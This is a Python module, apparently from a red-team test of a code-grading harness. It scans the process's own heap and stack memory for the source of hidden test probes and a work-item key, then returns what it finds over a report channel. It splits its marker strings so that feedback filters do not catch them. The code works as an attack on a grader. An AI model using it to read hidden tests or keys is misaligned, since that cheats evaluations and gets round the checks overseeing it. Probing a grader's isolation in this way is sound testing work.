"""What the memory-reading attacks look for, given a bytearray over the whole address space:
the hidden probes' source and the work-item key, in every readable, writable region of the
process (its heap: a copy of the warm template's). Returns a line for the report channel."""

MARK = "LEAK" + "ED:"  # built: the source shown in the feedback must not carry it
SECRETS = [b"def " + n.encode() + b"(mod" for n in ("_fresh" + "_counters", "_mi" + "xed",
                                                     "_count" + "_threads", "_after" + "_error")]
SECRETS.append(b'"items' + b'_key": "')


def _regions():
    with open("/" + "proc/self/maps") as f:
        for line in f:
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            name = parts[5] if len(parts) > 5 else ""
            if parts[1].startswith("rw") and name in ("", "[heap]", "[stack]"):
                yield lo, hi


def loot(mem) -> str:
    found: dict = {}
    scanned = 0
    for lo, hi in _regions():
        for at in range(lo, hi, 1 << 24):
            chunk = bytes(mem[at:min(hi, at + (1 << 24))])
            scanned += len(chunk)
            for secret in SECRETS:
                start = 0
                while (i := chunk.find(secret, start)) >= 0 and len(found.get(secret, ())) < 3:
                    text = chunk[i:i + 400].split(b"\0")[0].decode(errors="replace")
                    if len(text) > len(secret) + 8:  # not one of our own copies of the name
                        found.setdefault(secret, []).append(text)
                    start = i + 1
    got = [f"{MARK} {len(v)} copies of {k.decode()}: {v[0]}" for k, v in found.items()]
    return f"read {scanned} bytes of my own memory; " + " | ".join(got)
